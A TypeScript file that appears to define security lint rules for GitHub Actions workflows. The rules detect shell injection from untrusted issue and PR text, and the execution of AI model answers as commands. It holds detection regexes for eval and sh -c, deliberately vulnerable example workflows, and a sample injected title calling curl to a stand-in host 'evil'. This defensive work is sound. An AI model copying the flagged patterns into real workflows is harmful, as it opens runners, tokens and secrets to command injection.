import { lookIn, type Resource, type Value } from '../../server/rule/queries.ts';
import type { ResourceContext } from '../../server/rule/rule.ts';
import { mapOfResource, objectRule, textAt } from '../_kubernetes.ts';
import { sourceOf } from '../_source.ts';
import { holdsStrangersText, partsOf, variable } from '../_workflow-expressions.ts';
import { agents, file, steps, workflow } from '../_workflows.ts';

const answered = ['- id: ask', '  uses: actions/ai-inference@0cbed4a10641c75090de5968e66d70eb4660f751', '  with:', '    prompt: List the files'];
const script = 'actions/github-script@ed597411d8f924073f98dfc5c65a23a2325f34cd';

/** Commands that read a text as commands once more, up to the end of what they read. */
const readAgain: readonly RegExp[] = [
  /(?:^|[\s;&|(])(?:eval|(?:(?:ba|z|da|k)?sh|su|ssh|python[\d.]*|node|perl|ruby)\b[^\n;&|]*?[ \t]-\w*[ce])[ \t]+("[^"\n]*"|[^\s;&|'][^\n;&|]*)/gm,
  /(?:^|[\s;&(])(?:echo|printf)[ \t]+([^\n|;&]*)\|[ \t]*(?:sudo[ \t]+)?(?:(?:ba|z|da|k)?sh|python[\d.]*|node)(?![\w.-]|[ \t]+[^\s|;&])/gm,
  /(?:^|[\s;&|(])(?:(?:ba|z|da|k)?sh|python[\d.]*|node)[ \t]+<<<[ \t]*("[^"\n]*"|\S+)/gm,
  /(?:^|[\s;&|(])(?:iex|Invoke-Expression)[ \t]+([^\n;|]*)/gim,
  // The first word of a script names a command; further lines may belong to a text.
  /^(?:[|>][-+]?[ \t]*\n)?[ \t]*(\$(?:[A-Za-z_]\w*|\{[A-Za-z_]\w*[^}\n]*\}))(?=\s|$)(?![ \t]*=)/g,
];
/** Calls of JavaScript that run a text as a command or as code. */
const run = /\b(?:exec|execSync|eval|Function|exec\.exec|exec\.getExecOutput)\s*\(\s*(`[^`]*`|(?:[^;\n])*)/g;
/** What strangers write, in the payload of a script of `actions/github-script`. */
const payload =
  /\bcontext\.payload\??\.(?:issue\??\.(?:title|body)|comment\??\.body|review\??\.body|discussion\??\.(?:title|body)|pull_request\??\.(?:title|body|head\??\.(?:ref|label))|head_commit\??\.message)\b|\bprocess\.env\.GITHUB_HEAD_REF\b/;

/** Where a program reads the text out of the answer of a model's interface. */
const answer = /\.choices\[\d*\]\.(?:message\.content|text)|\.output_text\b|\.content\[\d+\]\.text|\.candidates\[\d+\]\.content|\.message\.content\b/;

const namesIn = (text: string): readonly string[] => [...text.matchAll(/(?<!\\)\$\{?(?:env:)?(\w+)/gi)].map((one) => one[1]!);

/** The commands of a text that read such a part of it as commands once more, with their places. */
function* runAgain(value: Value, patterns: readonly RegExp[], isForeign: (text: string) => boolean, context: ResourceContext): Iterable<Value> {
  if (value.kind !== 'string') return;
  const { path, range } = value.origin;
  const text = sourceOf(context, { path, range });
  for (const match of patterns.flatMap((pattern) => [...text.matchAll(pattern)])) {
    if (!isForeign(match[1]!) || /(?:^|\n)[ \t]*(?:#|\/\/)[^\n]*$/.test(text.slice(0, match.index))) continue;
    const lead = match[0].length - match[0].trimStart().replace(/^[;&|(]\s*/, '').length;
    const origin = { path, range: { start: range.start + match.index + lead, end: range.start + match.index + match[0].trimEnd().length } };
    yield { kind: 'null', origin, at: origin };
  }
}

/** True for a variable in which the workflow puts what a model answered in an earlier step of the job. */
function holdsAnswer(step: Resource, name: string, context: ResourceContext): boolean {
  const set = variable(step, name, context);
  const ids = set ? partsOf(set).flatMap((part) => /^steps\.([\w-]+)\.outputs\./.exec(part.trim())?.[1] ?? []) : [];
  const job = step.address.slice(0, step.address.lastIndexOf('#') + 1);
  return (
    ids.length > 0 &&
    (context.unit.byType.get('github_step') ?? []).some((one) => one.address.startsWith(job) && ids.includes(textAt(one, 'id') ?? '') && agents.test(textAt(one, 'uses') ?? ''))
  );
}

export default [
  objectRule({
    id: 'input-validation/workflow-variable-run',
    title: 'Text of strangers read as a command',
    severity: 'high',
    types: ['github_step'],
    file,
    what: 'Reports `eval`, `sh -c` and the like on variables, and scripts that begin with such a variable, with text that anybody can write (titles, bodies, branch names), and `exec` of the payload in `actions/github-script`.',
    why: 'A variable is data until something reads it as a command again: then a title such as `$(curl evil)` runs on the runner, with its token and secrets.',
    references: ['CWE-78', 'CWE-94', 'SI-10'],
    noFix: 'The value has to be handed over as an argument of its own.',
    check: (resource, tell, context) => {
      const named = (text: string): boolean => namesIn(text).some((name) => holdsStrangersText(resource, name, context));
      const inScript = (text: string): boolean => payload.test(text.startsWith('`') ? text : (text.split(/,\s*\[/)[0] ?? ''));
      const scripts = /^actions\/github-script@/.test(textAt(resource, 'uses') ?? '') ? lookIn(mapOfResource(resource), 'with.script').values : [];
      const found = [
        ...lookIn(mapOfResource(resource), 'run').values.flatMap((value) => [...runAgain(value, readAgain, named, context)]),
        ...scripts.flatMap((value) => [...runAgain(value, [run], inScript, context)]),
      ];
      for (const at of found) tell(at, `Text that strangers write is run as a command by "${resource.name}".`);
    },
    bad: workflow('issues', ...steps('- run: eval "echo $TITLE"', '       ^^^^^^^^^^^^^^^^^^', '  env:', '    TITLE: ${{ github.event.issue.title }}')),
    good: workflow('issues', ...steps('- run: eval "echo $NUMBER"', '  env:', '    NUMBER: ${{ github.event.issue.number }}')),
    more: [
      {
        file,
        bad: workflow('issues', ...steps('- run: echo "$TITLE" | bash', '       ^^^^^^^^^^^^^^^^^^^^', '  env:', '    TITLE: ${{ github.event.issue.title }}')),
        good: workflow('issues', ...steps('- run: echo "$TITLE" | bash ./read.sh', '  env:', '    TITLE: ${{ github.event.issue.title }}')),
      },
      {
        file,
        bad: workflow('issue_comment', ...steps('- run: ${BODY#/run }', '       ^^^^^^^^^^^^^', '  env:', '    BODY: ${{ github.event.comment.body }}')),
        good: workflow('issue_comment', ...steps('- run: ./run "${BODY#/run }"', '  env:', '    BODY: ${{ github.event.comment.body }}')),
      },
      {
        file,
        bad: workflow('pull_request', ...steps('- run: bash -c "git checkout $GITHUB_HEAD_REF"', `       ${'^'.repeat('bash -c "git checkout $GITHUB_HEAD_REF"'.length)}`)),
        good: workflow('pull_request', ...steps('- run: git checkout "$GITHUB_HEAD_REF"')),
      },
      {
        file,
        bad: workflow(
          'issues',
          ...steps(`- uses: ${script}`, '  with:', '    script: execSync(`echo ${context.payload.issue.title}`)', `            ${'^'.repeat('execSync(`echo ${context.payload.issue.title}`'.length)}`),
        ),
        good: workflow('issues', ...steps(`- uses: ${script}`, '  with:', "    script: execFileSync('echo', [context.payload.issue.title])")),
      },
    ],
  }),
  objectRule({
    id: 'model-output/workflow-runs-answer',
    title: 'Answer of a model run as a command by a workflow',
    severity: 'high',
    types: ['github_step'],
    file,
    what: 'Reports `eval`, `sh -c` and the like on variables with what a model or an agent answered in an earlier step.',
    why: 'Whatever the model has read, in issues, code or pages, can decide what it answers; the command runs with the token and the secrets of the job.',
    references: ['LLM05:2025', 'CWE-78', 'CWE-94'],
    noFix: 'Which commands may be run has to be decided, and the answer compared with them.',
    whenNotToUse: 'Never.',
    check: (resource, tell, context) => {
      const named = (text: string): boolean => answer.test(text) || namesIn(text).some((name) => holdsAnswer(resource, name, context));
      for (const value of lookIn(mapOfResource(resource), 'run').values)
        for (const at of runAgain(value, readAgain, named, context)) tell(at, `What a model answered is run as a command by "${resource.name}".`);
    },
    bad: workflow('push', ...steps(...answered, '- run: eval "$ANSWER"', '       ^^^^^^^^^^^^^^', '  env:', '    ANSWER: ${{ steps.ask.outputs.response }}')),
    good: workflow('push', ...steps(...answered, '- run: printf %s "$ANSWER"', '  env:', '    ANSWER: ${{ steps.ask.outputs.response }}')),
    more: [
      {
        file,
        bad: workflow('push', ...steps('- run: bash -c "$(jq -r .choices[0].message.content out.json)"', `       ${'^'.repeat('bash -c "$(jq -r .choices[0].message.content out.json)"'.length)}`)),
        good: workflow('push', ...steps('- run: jq -r .choices[0].message.content out.json > reply.md')),
      },
    ],
  }),
];
